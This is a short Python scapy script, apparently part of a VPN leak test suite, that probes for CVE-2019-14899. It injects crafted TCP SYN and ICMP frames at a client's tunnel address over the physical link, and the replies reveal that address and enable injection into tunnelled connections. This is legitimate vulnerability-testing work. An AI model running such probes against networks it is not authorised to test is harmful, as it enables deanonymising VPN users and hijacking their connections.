#!/usr/bin/python3
"""CVE-2019-14899 probe of the leak suite: from the router side of the
client's physical link, send frames addressed to the client's MAC but to its
*tunnel* address (a TCP SYN to an open port, one to a closed port, an ICMP
echo request). A vulnerable host answers (SYN-ACK, RST, echo reply) on the
physical link, which lets the attacker infer the tunnel address and inject
into tunnelled connections.

usage: inject.py IFACE CLIENT_MAC TUNNEL_ADDR SOURCE_ADDR OPEN_PORT
"""
import sys

from scapy.all import ICMP, IP, TCP, Ether, sendp  # noqa: E402


def main():
    iface, mac, target, source, open_port = sys.argv[1:6]
    open_port = int(open_port)
    frames = [
        Ether(dst=mac) / IP(src=source, dst=target) / TCP(sport=40100, dport=open_port, flags="S", seq=1000),
        Ether(dst=mac) / IP(src=source, dst=target) / TCP(sport=40101, dport=open_port + 1, flags="S", seq=2000),
        Ether(dst=mac) / IP(src=source, dst=target) / ICMP(type=8, id=0x1489, seq=1),
    ]
    sendp(frames, iface=iface, verbose=False)
    print("injected %d frames to %s via %s" % (len(frames), target, iface))


if __name__ == "__main__":
    main()
